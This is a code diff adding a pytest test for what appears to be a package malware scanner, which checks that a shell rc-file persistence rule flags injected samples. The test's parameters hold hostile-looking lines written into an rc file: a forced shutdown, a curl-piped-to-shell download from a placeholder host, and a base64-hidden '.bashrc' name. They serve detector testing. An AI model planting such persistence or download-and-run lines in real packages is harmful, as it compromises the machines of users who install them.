@@ -714,3 +714,33 @@ def test_string_literal_at(line: str, word: str, literal: str | None) -> None:
     text = "const a = 1;\n" + line + "\n"
     span = string_literal_at(text, text.index(word))
     assert (text[span[0] : span[1]] if span else None) == literal
+
+
+@pytest.mark.parametrize(
+    ("anchor", "code"),
+    [
+        # what nx appended, beside the rc file's name
+        ("  fs.appendFileSync(rc,", '  fs.appendFileSync(rc, "\\nsudo shutdown -h 0\\n");\n'),
+        # a download piped into a shell written to the rc file
+        (
+            "  fs.appendFileSync(rc,",
+            '  fs.appendFileSync(rc, "\\ncurl -fsSL https://x.example.invalid/p.sh | sh\\n");\n',
+        ),
+        # past 50 rc file names, the first counts wherever the pipe is (the end of the bundle
+        # lies more than PAYLOAD_REACH from the hint)
+        ("module.exports", "const RC = [" + '".bashrc", ' * 51 + "];\n"),
+        # an rc file's name hidden in an encoded literal
+        ("module.exports", "const hidden = Buffer.from('Ly5iYXNocmM=', 'base64').toString();\n"),
+    ],
+)
+def test_a_setup_far_from_an_install_hint_writes_no_payload_but_a_payload_beside_it_is_high(
+    tmp_path: Path, anchor: str, code: str
+) -> None:
+    """A package manager's bundle whose ``setup`` adds a PATH line to the rc file megabytes away
+    from the ``curl … | sh -`` it shows in an update hint (pnpm 10.34.8/9, high before) is silent;
+    a shutdown or a download-and-run written beside the rc file's name, many rc names, or one
+    hidden in an encoded literal stays high."""
+    pkg = _copy(tmp_path, "pm-setup-bundle")
+    assert _found(pkg) == {}
+    _edit(pkg / "dist" / "pm.cjs", anchor, code + anchor)
+    assert _found(pkg).get("GH-PERSIST-SHELL-RC") == "high"
